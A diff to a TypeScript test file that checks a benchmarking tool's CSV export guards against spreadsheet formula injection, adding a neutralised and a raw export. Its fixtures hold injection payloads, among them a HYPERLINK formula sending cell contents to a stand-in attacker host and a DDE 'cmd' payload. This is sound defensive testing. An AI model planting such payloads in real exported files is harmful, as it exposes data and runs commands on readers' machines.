@@ -10,7 +10,7 @@ import path from 'node:path'
 import { after, before, describe, test } from 'node:test'
 import { promisify } from 'node:util'
 import { readInputs } from '../src/action-main.ts'
-import { csvField, plainNumber } from '../src/export/csv.ts'
+import { csvField, plainNumber, spreadsheetField } from '../src/export/csv.ts'
 import {
   type HyperfineResult,
   hyperfineCsv,
@@ -622,6 +622,161 @@ describe('numbers and fields', () => {
   })
 })
 
+describe('cells a spreadsheet would evaluate as a formula', () => {
+  /** Names and parameter values a spreadsheet reads as formulas (OWASP's list: =, +, -, @, tab, CR). */
+  const FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(1,1)',
+    '\t=1+1',
+    '\r=1+1',
+    '\0=1+1',
+  ]
+  /** Cells a spreadsheet reads as numbers: a parameter scan's values. */
+  const NUMBERS = ['-1', '-2.5', '+3', '0', '-0.5e-3', '.5']
+
+  const exported = (name: string, n: string): HyperfineResult => ({
+    command: name,
+    mean: 0.001,
+    stddev: 0,
+    median: 0.001,
+    user: 0,
+    system: 0,
+    min: 0.001,
+    max: 0.001,
+    times: [0.001],
+    exit_codes: [0],
+    parameters: { n },
+  })
+
+  test('a name or parameter value that starts a formula gets a single quote before it; numbers stay numbers', () => {
+    const results = [
+      ...FORMULAS.map((f) => exported(f, f)),
+      ...NUMBERS.map((n) => exported(`scan n=${n}`, n)),
+      exported('a;=1+1', 'tab\t=1'),
+    ]
+    const rows = parseCsv(hyperfineCsv(results))
+    assert.deepEqual(rows[0], [...rows[0]!.slice(0, 8), 'parameter_n'])
+    assert.deepEqual(
+      rows.slice(1).map((r) => [r[0], r[8]]),
+      [
+        ...FORMULAS.map((f) => [`'${f}`, `'${f}`]),
+        ...NUMBERS.map((n) => [`scan n=${n}`, n]),
+        ['a;=1+1', 'tab\t=1'],
+      ],
+    )
+    // The numbers of the timing columns are never touched, a negative one included.
+    assert.equal(
+      hyperfineCsv([{ ...exported('x', '1'), mean: -0.5 }])
+        .split('\n')[1]!
+        .split(',')[1],
+      '-0.5',
+    )
+    // Written as: quoted where RFC 4180 says, and where a cell holds ; or a tab (a spreadsheet may split
+    // on them, and would then read what follows as a new cell).
+    assert.equal(spreadsheetField('=1+1'), "'=1+1")
+    assert.equal(spreadsheetField('-1'), '-1')
+    assert.equal(spreadsheetField('-1+1'), "'-1+1")
+    assert.equal(spreadsheetField('a;=1+1'), '"a;=1+1"')
+    assert.equal(spreadsheetField('a\t=1+1'), '"a\t=1+1"')
+    assert.equal(spreadsheetField('\r=1'), `"'\r=1"`)
+    assert.equal(spreadsheetField('=A1,"x"'), `"'=A1,""x"""`)
+    assert.equal(spreadsheetField('plain name'), 'plain name')
+  })
+
+  test('raw: every cell as hyperfine writes it, formulas and all', () => {
+    const results = [...FORMULAS, ...NUMBERS, 'a;=1+1'].map((f) => exported(f, f))
+    const rows = parseCsv(hyperfineCsv(results, { raw: true }))
+    assert.deepEqual(
+      rows.slice(1).map((r) => [r[0], r[8]]),
+      [...FORMULAS, ...NUMBERS, 'a;=1+1'].map((f) => [f, f]),
+    )
+    // Quoted only where RFC 4180 says: a formula without a comma, a quote or a line break is bare.
+    assert.equal(
+      hyperfineCsv([exported('=1+1', '@SUM(1;1)')], { raw: true })
+        .split('\n')[1]!
+        .split(',')[0],
+      '=1+1',
+    )
+  })
+
+  test("hyperfine's own CSV of formula names and a negative parameter: raw byte for byte, neutralised but for the quotes", {
+    skip: skipHyperfine,
+  }, async () => {
+    const dir = await tempDir('hyperfine-formulas')
+    dirs.push(dir)
+    const names = ['=1+1', '-2+3', '\t=1', 'a;=1', '@SUM(1,1)', 'plain']
+    await run(
+      'hyperfine',
+      [
+        ...['-N', '--style', 'none', '--runs', '2', '-L', 'n', '-1,=2'],
+        ...['--export-json', 'f.json', '--export-csv', 'f.csv'],
+        ...names.map((name) => `--command-name=${name}`),
+        ...['true {n} a', 'true {n} b', 'true {n} c'],
+      ],
+      { cwd: dir },
+    )
+    const theirs = {
+      json: JSON.parse(await readFile(path.join(dir, 'f.json'), 'utf8')) as HyperfineFile,
+      csv: await readFile(path.join(dir, 'f.csv'), 'utf8'),
+    }
+    const results = theirs.json.results as unknown as HyperfineResult[]
+    assert.deepEqual(
+      results.map((r) => r.command),
+      names,
+    )
+    assert.deepEqual(new Set(results.map((r) => r.parameters?.n)), new Set(['-1', '=2']))
+    assert.equal(hyperfineCsv(results, { raw: true }), theirs.csv)
+    const neutralised = parseCsv(hyperfineCsv(results))
+    assert.deepEqual(
+      neutralised.slice(1).map((r) => [r[0], r[8]]),
+      results.map((r) => [
+        /^[=+\-@\t]/.test(r.command) ? `'${r.command}` : r.command,
+        r.parameters?.n === '-1' ? '-1' : "'=2",
+      ]),
+    )
+    // The timing columns are hyperfine's, cell for cell.
+    assert.deepEqual(
+      neutralised.map((r) => r.slice(1, 8)),
+      parseCsv(theirs.csv).map((r) => r.slice(1, 8)),
+    )
+  })
+
+  test('--export-csv and --export-csv-raw from one run: a formula name, a scan over negative values', async () => {
+    const dir = await gitRepo({
+      'bench.yml': `suite: formulas
+defaults: { runs: 2, warmup: 0 }
+benchmarks:
+  - { name: "=HYPERLINK(\\"https://evil.example\\")", kind: process, command: [/bin/true] }
+  - { name: "@SUM(1;1)", kind: process, command: [/bin/true] }
+  - name: scan
+    kind: process
+    command: [/bin/true, "{n}"]
+    parameters: { n: { from: -2, to: 0 } }
+`,
+    })
+    dirs.push(dir)
+    const r = await cli(['run', '--no-save', '--export-csv', 'n.csv', '--export-csv-raw', 'r.csv'], dir)
+    assert.equal(r.code, 0, r.stderr)
+    const cells = async (file: string) =>
+      parseCsv(await readFile(path.join(dir, file), 'utf8')).map((row) => [row[0], row[8]])
+    const raw = await cells('r.csv')
+    assert.deepEqual(raw, [
+      ['command', 'parameter_n'],
+      ['=HYPERLINK("https://evil.example")', ''],
+      ['@SUM(1;1)', ''],
+      ...['-2', '-1', '0'].map((n) => [`scan/n:${n}`, n]),
+    ])
+    assert.deepEqual(await cells('n.csv'), [
+      ['command', 'parameter_n'],
+      [`'=HYPERLINK("https://evil.example")`, ''],
+      ["'@SUM(1;1)", ''],
+      ...['-2', '-1', '0'].map((n) => [`scan/n:${n}`, n]),
+    ])
+  })
+})
+
 describe('every hostile name in the markdown export', { skip: skipGfm }, () => {
   const names = readFileSync(path.join(import.meta.dirname, 'fixtures', 'hostile', 'names.txt'), 'utf8')
     .split('\n')
@@ -653,8 +808,8 @@ describe('every hostile name in the markdown export', { skip: skipGfm }, () => {
 })
 
 describe('the action', () => {
-  test('export-json, export-markdown and export-csv are read as the paths of the exports', () => {
-    const names = ['export-json', 'export-markdown', 'export-csv'] as const
+  test('export-json, export-markdown, export-csv and export-csv-raw are read as the paths of the exports', () => {
+    const names = ['export-json', 'export-markdown', 'export-csv', 'export-csv-raw'] as const
     const variable = (name: string) => `INPUT_${name.toUpperCase()}`
     const saved = names.map((n) => [variable(n), process.env[variable(n)]] as const)
     try {
@@ -663,12 +818,14 @@ describe('the action', () => {
         json: undefined,
         markdown: undefined,
         csv: undefined,
+        csvRaw: undefined,
       })
       for (const n of names) process.env[variable(n)] = `out/${n}`
       assert.deepEqual(readInputs({ GITHUB_WORKSPACE: '/w' }).exports, {
         json: 'out/export-json',
         markdown: 'out/export-markdown',
         csv: 'out/export-csv',
+        csvRaw: 'out/export-csv-raw',
       })
     } finally {
       for (const [key, value] of saved) {
